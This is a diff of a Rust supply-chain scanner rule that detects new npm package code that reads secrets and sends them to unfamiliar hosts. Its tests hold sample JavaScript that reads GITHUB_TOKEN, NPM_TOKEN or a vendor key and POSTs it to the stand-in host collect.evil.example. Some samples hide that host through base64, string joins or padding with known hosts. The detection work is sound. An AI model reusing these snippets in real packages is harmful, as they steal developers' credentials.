@@ -5,9 +5,9 @@ use std::collections::BTreeSet;
 use turncoat_finding::{Finding, Level, RuleDoc, Severity};
 
 use super::{DiffCx, MAX_EVIDENCE, NewUse, ScanCx, Weight, new_in_file, weigh};
-use crate::facts::{Capability, JsFacts, Occurrence};
+use crate::facts::{Capability, Destination, JsFacts, Occurrence};
 use crate::js::FROM_STRING_TABLE;
-use crate::js::patterns::is_secret_env_name;
+use crate::js::patterns::{exfil_channel, is_secret_env_name, site};
 
 pub(crate) const RULE: RuleDoc = RuleDoc {
     code: "exfiltration-shape",
@@ -75,22 +75,14 @@ fn is_sink(cap: Capability, install_time: bool) -> bool {
     install_time || cap != Capability::ChildProcess
 }
 
-/// The registrable part of a host (`clienttelemetry.googleapis.com` → `googleapis.com`), so a new
-/// subdomain of a host the package already talked to is not a new destination.
-fn site(host: &str) -> &str {
-    let host = host.trim_end_matches('.');
-    let mut dots = host.rmatch_indices('.');
-    match (dots.next(), dots.next()) {
-        (Some(_), Some((i, _))) => &host[i + 1..],
-        _ => host,
-    }
-}
-
 const SOURCES: [Capability; 3] = [
     Capability::EnvRead,
     Capability::EnvDump,
     Capability::SensitiveRead,
 ];
+
+/// Most files joined into one unit through the require/import graph.
+const MAX_JOINED: usize = 256;
 
 /// Sources and sinks found in one unit of code.
 #[derive(Default)]
@@ -98,7 +90,12 @@ struct Unit<'a> {
     paths: BTreeSet<&'a str>,
     sources: Vec<NewUse<'a>>,
     sinks: Vec<NewUse<'a>>,
+    /// Every host the unit's files name.
     hosts: BTreeSet<&'a str>,
+    /// Destinations in new code that are computed at run time.
+    computed: Vec<NewUse<'a>>,
+    /// A file of the unit names more hosts than were kept.
+    overflow: bool,
 }
 
 impl<'a> Unit<'a> {
@@ -106,38 +103,72 @@ impl<'a> Unit<'a> {
         &mut self,
         path: &'a str,
         js: &'a JsFacts,
+        base: Option<&'a JsFacts>,
         install_time: bool,
         pick: impl Fn(Capability) -> Vec<&'a Occurrence>,
     ) {
         let before = (self.sources.len(), self.sinks.len());
+        let at = |occ| NewUse {
+            path,
+            occ,
+            install_time,
+        };
         for cap in SOURCES {
             for occ in pick(cap) {
                 if is_source(cap, occ, install_time) {
-                    self.sources.push(NewUse {
-                        path,
-                        occ,
-                        install_time,
-                    });
+                    self.sources.push(at(occ));
                 }
             }
         }
         for cap in SINKS.into_iter().filter(|&c| is_sink(c, install_time)) {
             for occ in pick(cap) {
-                self.sinks.push(NewUse {
-                    path,
-                    occ,
-                    install_time,
-                });
+                self.sinks.push(at(occ));
+            }
+        }
+        // A receive-anything service newly named is a sink in its own right, whatever client
+        // reaches it; a destination computed at run time is unknown, so new.
+        for d in new_destinations(js, base) {
+            match &d.host {
+                Some(h) if exfil_channel(h).is_some() => self.sinks.push(at(&d.at)),
+                Some(_) => {}
+                None => self.computed.push(at(&d.at)),
             }
         }
         if (self.sources.len(), self.sinks.len()) != before {
             self.paths.insert(path);
             self.hosts.extend(js.hosts.iter().map(String::as_str));
+            self.overflow |= js.hosts_overflow;
         }
+    }
+
+    fn merge(&mut self, other: Unit<'a>) {
+        self.paths.extend(other.paths);
+        self.sources.extend(other.sources);
+        self.sinks.extend(other.sinks);
+        self.hosts.extend(other.hosts);
+        self.computed.extend(other.computed);
+        self.overflow |= other.overflow;
     }
 
     fn fires(&self) -> bool {
         !self.sources.is_empty() && !self.sinks.is_empty()
+    }
+
+    /// Whether every destination of the unit is one the package already talked to: hosts
+    /// named before (by site, public-suffix aware; receive-anything services only by the exact
+    /// host), nothing computed at run time, no host list cut short, and at least one host
+    /// named at all (code that names none sends *somewhere*: unknown, so new).
+    fn only_known_destinations(
+        &self,
+        old_hosts: &BTreeSet<&str>,
+        old_sites: &BTreeSet<&str>,
+    ) -> bool {
+        !self.overflow
+            && self.computed.is_empty()
+            && !self.hosts.is_empty()
+            && self.hosts.iter().all(|h| {
+                old_hosts.contains(h) || (exfil_channel(h).is_none() && old_sites.contains(site(h)))
+            })
     }
 
     fn describe(&self) -> (String, String) {
@@ -167,66 +198,154 @@ impl<'a> Unit<'a> {
     }
 }
 
-pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
-    let old_hosts = cx.old_hosts();
-    let old_sites: BTreeSet<&str> = old_hosts.iter().map(|h| site(h)).collect();
-    // Did the previous version already read secrets and reach the network somewhere? Then new
-    // runtime code doing both is only the takeover shape when it names a destination the
-    // package never mentioned (the @solana/web3.js and xrpl injections did; a vendor SDK adding
-    // a telemetry module for its own backend does not).
-    let old_had_both = {
-        let mut source = false;
-        let mut sink = false;
-        for (_, js) in cx.old.scripts() {
-            source |= SOURCES
-                .iter()
-                .any(|&c| js.uses(c).iter().any(|o| is_source(c, o, false)));
-            sink |= [
-                Capability::Network,
-                Capability::Dns,
-                Capability::DnsFromData,
-            ]
-            .iter()
-            .any(|&c| !js.uses(c).is_empty());
-        }
-        source && sink
+/// Destinations of `js` that `base` (the old file) did not have: hosts it did not name, and
+/// computed destinations beyond the old file's count of them (preferring lines the old file
+/// did not have), so a minified rebuild that moves them is not new.
+pub(crate) fn new_destinations<'a>(
+    js: &'a JsFacts,
+    base: Option<&JsFacts>,
+) -> Vec<&'a Destination> {
+    let Some(b) = base else {
+        return js.destinations.iter().collect();
     };
-    let mut install = Unit::default();
-    let mut per_file = Vec::new();
+    let hosts: BTreeSet<&str> = b.hosts.iter().map(String::as_str).collect();
+    let old_computed: Vec<&str> = b
+        .destinations
+        .iter()
+        .filter(|d| d.host.is_none())
+        .map(|d| d.at.line_hash.as_str())
+        .collect();
+    let computed: Vec<&Destination> = js
+        .destinations
+        .iter()
+        .filter(|d| d.host.is_none())
+        .collect();
+    let excess = computed.len().saturating_sub(old_computed.len());
+    let mut out: Vec<&Destination> = js
+        .destinations
+        .iter()
+        .filter(|d| d.host.as_deref().is_some_and(|h| !hosts.contains(h)))
+        .collect();
+    let mut fresh: Vec<&Destination> = computed
+        .iter()
+        .copied()
+        .filter(|d| !old_computed.contains(&d.at.line_hash.as_str()))
+        .collect();
+    fresh.truncate(excess);
+    out.extend(fresh);
+    out
+}
+
+/// Did the previous version already read secrets and reach the network somewhere?
+fn old_had_both(cx: &DiffCx<'_>) -> bool {
+    let mut source = false;
+    let mut sink = false;
+    for (_, js) in cx.old.scripts() {
+        source |= SOURCES
+            .iter()
+            .any(|&c| js.uses(c).iter().any(|o| is_source(c, o, false)));
+        sink |= [
+            Capability::Network,
+            Capability::Dns,
+            Capability::DnsFromData,
+        ]
+        .iter()
+        .any(|&c| !js.uses(c).is_empty());
+    }
+    source && sink
+}
+
+/// The runtime units of new code: each changed file's new sources and sinks, joined with
+/// those of the files it loads (and that load it) through the package's require/import
+/// graph, so a secret read in `a.js` and sent from `b.js` is one unit.
+fn runtime_units<'a>(cx: &DiffCx<'a>) -> Vec<Unit<'a>> {
+    let mut by_path: Vec<(&'a str, Unit<'a>)> = Vec::new();
     for (path, f) in &cx.new.files {
         let Some(js) = &f.js else { continue };
-        if cx.old.files.get(path).is_some_and(|o| o.blake3 == f.blake3) {
+        if cx.new.is_install_time(path)
+            || cx.old.files.get(path).is_some_and(|o| o.blake3 == f.blake3)
+        {
             continue;
         }
         let base = cx.baseline(path);
-        let install_time = cx.new.is_install_time(path);
-        let pick = |cap| new_in_file(js, base, cap);
-        if install_time {
-            install.add(path, js, true, pick);
-        } else {
-            let mut u = Unit::default();
-            u.add(path, js, false, pick);
-            if u.fires() {
-                per_file.push(u);
+        let mut u = Unit::default();
+        u.add(path, js, base, false, |cap| new_in_file(js, base, cap));
+        if !u.sources.is_empty() || !u.sinks.is_empty() {
+            by_path.push((path.as_str(), u));
+        }
+    }
+    // Union-find over the files with uses, linked when one loads the other.
+    let index: std::collections::HashMap<&str, usize> = by_path
+        .iter()
+        .enumerate()
+        .map(|(i, (p, _))| (*p, i))
+        .collect();
+    let mut parent: Vec<usize> = (0..by_path.len()).collect();
+    fn root(parent: &mut [usize], mut i: usize) -> usize {
+        while parent[i] != i {
+            parent[i] = parent[parent[i]];
+            i = parent[i];
+        }
+        i
+    }
+    for (i, (path, _)) in by_path.iter().enumerate() {
+        for other in cx.new.import_closure(path, MAX_JOINED) {
+            if let Some(&j) = index.get(other.as_str()) {
+                let (a, b) = (root(&mut parent, i), root(&mut parent, j));
+                parent[a] = b;
             }
         }
+    }
+    let mut groups: std::collections::BTreeMap<usize, Unit<'a>> = Default::default();
+    for (i, (_, u)) in by_path.into_iter().enumerate() {
+        let r = root(&mut parent, i);
+        groups.entry(r).or_default().merge(u);
+    }
+    groups.into_values().filter(Unit::fires).collect()
+}
+
+pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
+    let old_hosts = cx.old_hosts();
+    let old_sites: BTreeSet<&str> = old_hosts.iter().map(|h| site(h)).collect();
+    // When the previous version already read secrets and reached the network somewhere, new
+    // runtime code doing both is only the takeover shape when its destination is not one the
+    // package already used (the @solana/web3.js and xrpl injections sent to new hosts; a vendor
+    // SDK adding a telemetry module for its own backend does not).
+    let old_had_both = old_had_both(cx);
+    let mut install = Unit::default();
+    for (path, f) in &cx.new.files {
+        let Some(js) = &f.js else { continue };
+        if !cx.new.is_install_time(path)
+            || cx.old.files.get(path).is_some_and(|o| o.blake3 == f.blake3)
+        {
+            continue;
+        }
+        let base = cx.baseline(path);
+        install.add(path, js, base, true, |cap| new_in_file(js, base, cap));
     }
     let units = std::iter::once(install)
         .filter(Unit::fires)
         .map(|u| (u, true))
-        .chain(per_file.into_iter().map(|u| (u, false)));
+        .chain(runtime_units(cx).into_iter().map(|u| (u, false)));
     for (unit, install_time) in units {
-        if !install_time && old_had_both && unit.hosts.iter().all(|h| old_sites.contains(site(h))) {
+        if !install_time && old_had_both && unit.only_known_destinations(&old_hosts, &old_sites) {
             continue;
         }
         let (src, sink) = unit.describe();
-        let new_hosts: Vec<&str> = unit
+        let mut new_hosts: Vec<String> = unit
             .hosts
             .iter()
             .copied()
             .filter(|h| !old_hosts.contains(h))
             .take(3)
+            .map(str::to_string)
             .collect();
+        if !unit.computed.is_empty() {
+            new_hosts.push("a destination computed at run time".into());
+        }
+        if unit.overflow {
+            new_hosts.push("more hosts than are listed".into());
+        }
         let hosts = if new_hosts.is_empty() {
             String::new()
         } else {
@@ -273,7 +392,7 @@ pub(crate) fn scan(cx: &ScanCx<'_>, out: &mut Vec<Finding>) {
     for (path, js) in cx.facts.scripts() {
         let pick = |cap| js.uses(cap).iter().collect::<Vec<_>>();
         if cx.is_install_time(path) {
-            install.add(path, js, true, pick);
+            install.add(path, js, None, true, pick);
             continue;
         }
         // Runtime code: only the unambiguous shape (whole environment serialised or
@@ -300,7 +419,7 @@ pub(crate) fn scan(cx: &ScanCx<'_>, out: &mut Vec<Finding>) {
                     occ: s,
                     install_time: false,
                 }],
-                hosts: BTreeSet::new(),
+                ..Unit::default()
             };
             let msg = format!(
                 "{path} in {} dumps the whole environment and uses the network in the same file",
@@ -412,9 +531,155 @@ module.exports = { get };
         );
     }
 
+    /// An inert takeover shape: the token is taken from an alias of the environment (no
+    /// `process.env.X` is ever written) and sent from a helper that receives it.
+    const ALIASED_THEFT: &str = r#"const https = require('https');
+const { env } = process;
+function collect(e) {
+  return { t: e.GITHUB_TOKEN, n: e['NPM_TOKEN'] };
+}
+function send(data) {
+  https.request({ hostname: 'collect.evil.example', method: 'POST' }).end(JSON.stringify(data));
+}
+send(collect(env));
+"#;
+
+    #[test]
+    fn secrets_read_through_an_alias_fire() {
+        let f = two_versions(
+            &[("index.js", "module.exports = 1;\n")],
+            &[
+                ("index.js", "module.exports = 1;\n"),
+                ("lib/report.js", ALIASED_THEFT),
+            ],
+        );
+        let hit = find(&f, RULE.code).expect("finding");
+        assert!(hit.message.contains("GITHUB_TOKEN"), "{}", hit.message);
+    }
+
+    #[test]
+    fn an_aliased_read_of_a_setting_is_quiet() {
+        let settings = ALIASED_THEFT
+            .replace("e.GITHUB_TOKEN", "e.DEBUG")
+            .replace("e['NPM_TOKEN']", "e['LOG_LEVEL']");
+        let f = two_versions(
+            &[("index.js", "module.exports = 1;\n")],
+            &[
+                ("index.js", "module.exports = 1;\n"),
+                ("lib/report.js", &settings),
+            ],
+        );
+        assert!(find(&f, RULE.code).is_none(), "{f:?}");
+    }
+
+    /// New runtime code in a package that already read a vendor key and used the network:
+    /// only a destination the package never used makes it the takeover shape.
+    fn vendor_update(tele: &str) -> Vec<Finding> {
+        two_versions(
+            &[("index.js", VENDOR_OLD)],
+            &[("index.js", VENDOR_OLD), ("telemetry.js", tele)],
+        )
+    }
+
+    #[test]
+    fn destinations_built_at_run_time_are_new() {
+        for tele in [
+            // No host named at all: the destination comes from elsewhere.
+            "const key = process.env.VENDOR_API_KEY;\nmodule.exports = (u) => fetch(u, { method: 'POST', body: key });\n",
+            // A host assembled from parts that do not fold.
+            "const key = process.env.VENDOR_API_KEY;\nconst p = [process.argv0.length ? 'collect' : 'x', 'evil', 'example'];\nfetch('https://' + p.join('.') + '/t', { method: 'POST', body: key });\nfetch('https://api.vendor.example/v1');\n",
+            "const key = process.env.VENDOR_API_KEY;\nconst h = Buffer.from(process.argv[2], 'base64').toString();\nfetch(`https://${h}/t`, { method: 'POST', body: key });\nfetch('https://api.vendor.example/v1');\n",
+            // Built from constants: folded, and the host is new.
+            "const key = process.env.VENDOR_API_KEY;\nfetch(atob('aHR0cHM6Ly9jb2xsZWN0LmV2aWwuZXhhbXBsZS90'), { method: 'POST', body: key });\nfetch('https://api.vendor.example/v1');\n",
+            "const key = process.env.VENDOR_API_KEY;\nconst host = ['collect', 'evil', 'example'].join('.');\nrequire('https').request({ hostname: host, method: 'POST' }).end(key);\nfetch('https://api.vendor.example/v1');\n",
+        ] {
+            let f = vendor_update(tele);
+            assert!(find(&f, RULE.code).is_some(), "{tele}: {:?}", codes(&f));
+        }
+    }
+
+    #[test]
+    fn a_configured_base_url_of_a_known_host_is_quiet() {
+        let tele = "const key = process.env.VENDOR_API_KEY;\nconst base = process.env.VENDOR_URL || 'https://telemetry.vendor.example';\nfetch(`${base}/t`, { method: 'POST', body: key });\n";
+        let f = vendor_update(tele);
+        assert!(find(&f, RULE.code).is_none(), "{f:?}");
+    }
+
+    #[test]
+    fn padding_with_known_hosts_cannot_hide_a_new_one() {
+        let known: String = (0..1100)
+            .map(|i| format!("'https://h{i}.vendor.example/',\n"))
+            .collect();
+        let old = format!("{VENDOR_OLD}const mirrors = [\n{known}];\n");
+        let tele = format!(
+            "const key = process.env.VENDOR_API_KEY;\nconst mirrors = [\n{known}'https://collect.evil.example/'];\nfetch(mirrors[mirrors.length - 1], {{ method: 'POST', body: key }});\n"
+        );
+        let f = two_versions(
+            &[("index.js", &old)],
+            &[("index.js", &old), ("telemetry.js", &tele)],
+        );
+        assert!(find(&f, RULE.code).is_some(), "{:?}", codes(&f));
+    }
+
+    #[test]
+    fn a_secret_read_in_one_file_and_sent_from_another_fires() {
+        let read = "module.exports = { token: process.env.NPM_TOKEN };\n";
+        let send = "const https = require('https');\nconst { token } = require('./creds');\nhttps.request({ hostname: 'collect.evil.example', method: 'POST' }).end(token);\n";
+        let f = two_versions(
+            &[("index.js", "module.exports = 1;\n")],
+            &[
+                ("index.js", "module.exports = 1;\n"),
+                ("lib/creds.js", read),
+                ("lib/report.js", send),
+            ],
+        );
+        let hit = find(&f, RULE.code).expect("finding");
+        assert!(
+            hit.message.contains("lib/creds.js") && hit.message.contains("lib/report.js"),
+            "{}",
+            hit.message
+        );
+        // The same two files without a link between them are two unrelated changes.
+        let unlinked = send.replace("require('./creds')", "{ token: 'x' }");
+        let f = two_versions(
+            &[("index.js", "module.exports = 1;\n")],
+            &[
+                ("index.js", "module.exports = 1;\n"),
+                ("lib/creds.js", read),
+                ("lib/report.js", &unlinked),
+            ],
+        );
+        assert!(find(&f, RULE.code).is_none(), "{f:?}");
+    }
+
+    const GH_OLD: &str = "// https://github.com/owner/tool#readme\nconst t = process.env.GITHUB_TOKEN;\nrequire('https').get('https://registry.npmjs.org/tool');\n";
+
+    #[test]
+    fn a_code_hosting_api_is_not_known_through_its_site() {
+        let send = "const t = process.env.GITHUB_TOKEN;\nfetch('https://api.github.com/repos/someone/loot/issues', { method: 'POST', headers: { authorization: `token ${t}` } });\n";
+        let f = two_versions(
+            &[("index.js", GH_OLD)],
+            &[("index.js", GH_OLD), ("sync.js", send)],
+        );
+        let hit = find(&f, RULE.code).expect("finding");
+        assert!(hit.message.contains("api.github.com"), "{}", hit.message);
+        // A package that always called that exact API is not sending anywhere new.
+        let old = format!("{GH_OLD}fetch('https://api.github.com/repos/owner/tool/releases');\n");
+        let f = two_versions(
+            &[("index.js", &old)],
+            &[("index.js", &old), ("sync.js", send)],
+        );
+        assert!(find(&f, RULE.code).is_none(), "{f:?}");
+    }
+
     #[test]
     fn sites() {
-        assert_eq!(site("clienttelemetry.googleapis.com"), "googleapis.com");
+        // `googleapis.com` is itself a suffix on the list: each of its hosts is its own site.
+        assert_eq!(
+            site("clienttelemetry.googleapis.com"),
+            "clienttelemetry.googleapis.com"
+        );
+        assert_eq!(site("telemetry.vendor.example.com"), "example.com");
         assert_eq!(site("example.com"), "example.com");
         assert_eq!(site("localhost"), "localhost");
     }
